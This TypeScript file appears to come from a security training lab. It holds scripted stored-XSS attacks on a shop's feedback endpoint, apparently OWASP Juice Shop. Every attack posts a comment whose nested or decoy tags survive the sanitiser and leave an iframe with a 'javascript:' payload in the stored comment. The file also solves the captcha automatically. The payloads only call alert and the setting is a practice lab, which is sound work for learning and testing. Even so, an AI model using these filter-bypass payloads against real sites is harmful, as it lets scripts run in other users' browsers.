import type { Attack, Tools } from '#lab'

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'

/** Writes feedback and says what the shop kept of it. */
async function say({ http, expect }: Tools, comment: string): Promise<string> {
  const captcha = (await http.get('/rest/captcha')).json<{ captchaId: number; answer: string }>()
  const feedback = { comment, rating: 1, captchaId: captcha.captchaId, captcha: captcha.answer }
  const answer = await http.post('/api/Feedbacks', feedback)
  expect(answer.status === 201, `the feedback answered with ${answer.status}`)
  return answer.json<{ data: { comment: string } }>().data.comment
}

async function leave(tools: Tools, comment: string): Promise<void> {
  tools.expect((await say(tools, comment)).includes(PAYLOAD), 'the filter keeps it out')
}

export const attacks: Attack[] = [
  {
    challenge: 'persistedXssFeedbackChallenge',
    name: 'a tag that is put together by the filter itself',
    run: (tools) => leave(tools, '<<script>Foo</script>iframe src="javascript:alert(`xss`)">'),
  },
  {
    challenge: 'persistedXssFeedbackChallenge',
    name: 'the same behind a decoy',
    run: (tools) => leave(tools, 'javascript: <<img>iframe src="javascript:alert(`xss`)">'),
  },
  {
    challenge: 'persistedXssFeedbackChallenge',
    name: 'two of them, one hidden deeper than the other',
    run: (tools) => leave(tools, `<<img>${PAYLOAD.slice(1)} <<<img>img>${PAYLOAD.slice(1)}`),
  },
]
